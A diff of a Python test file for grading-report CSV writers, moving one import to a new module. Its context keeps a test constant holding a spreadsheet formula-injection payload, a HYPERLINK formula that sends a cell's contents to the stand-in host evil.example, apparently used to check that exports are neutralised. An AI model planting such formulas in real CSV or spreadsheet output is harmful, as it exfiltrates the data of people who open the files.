@@ -12,8 +12,9 @@ import csv
 import pytest
 
 from helpers.competition import Entry
+from instructor.board_reports import write_leaderboard_csv
 from instructor.grading import GradeRow
-from instructor.reports import plain, write_gradebook_csv, write_leaderboard_csv, write_lms_csv
+from instructor.reports import plain, write_gradebook_csv, write_lms_csv
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
